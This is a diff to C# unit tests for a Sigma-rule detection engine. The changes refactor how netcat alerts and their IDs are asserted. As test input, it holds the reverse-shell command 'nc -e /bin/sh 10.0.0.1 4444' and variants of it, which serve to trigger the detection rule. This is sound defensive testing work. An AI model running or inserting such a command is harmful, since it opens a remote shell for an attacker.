@@ -71,7 +71,7 @@ public sealed class LoadingSigmaRulesTests : IDisposable
         var command = Command("nc -e /bin/sh 10.0.0.1 4444");
 
         var (_, alerts) = rules.Evaluate(Gatehouse.Audit.Detection.DetectionState.Empty, 1, command);
-        var alert = rules.ToAlert(Assert.Single(alerts));
+        var alert = Assert.Single(alerts);
 
         Assert.Equal(("sigma:netcat-used", AlertSeverity.High, "7d0e3f6a-0000-4000-8000-000000000001"), (alert.Rule, alert.Severity, alert.RuleId));
         Assert.Equal(["attack.execution", "attack.t1059.004"], alert.Tags!);
@@ -87,7 +87,8 @@ public sealed class LoadingSigmaRulesTests : IDisposable
         var state = Gatehouse.Audit.Detection.DetectionState.Empty with { LastSequence = 5 };
 
         var (replayed, none) = rules.Evaluate(state, 5, Command("nc -e /bin/sh h 1", session: session));
-        var (after, first) = rules.Evaluate(state, 6, Command("nc -e /bin/sh h 1", session: session));
+        var seen = Command("nc -e /bin/sh h 1", session: session);
+        var (after, first) = rules.Evaluate(state, 6, seen);
         var (_, again) = rules.Evaluate(after, 7, Command("nc -e /bin/sh h 1", session: session));
 
         Assert.Empty(none);
@@ -95,7 +96,7 @@ public sealed class LoadingSigmaRulesTests : IDisposable
         Assert.Single(first);
         Assert.Empty(again);
         // The alert id derives from the key and the triggering event, so a second writer of the same alert collides.
-        Assert.Equal(rules.ToAlert(first[0]).AlertId, rules.ToAlert(first[0]).AlertId);
+        Assert.Equal(first[0].AlertId, rules.Evaluate(state, 6, seen).Alerts[0].AlertId);
     }
 
     [Fact]
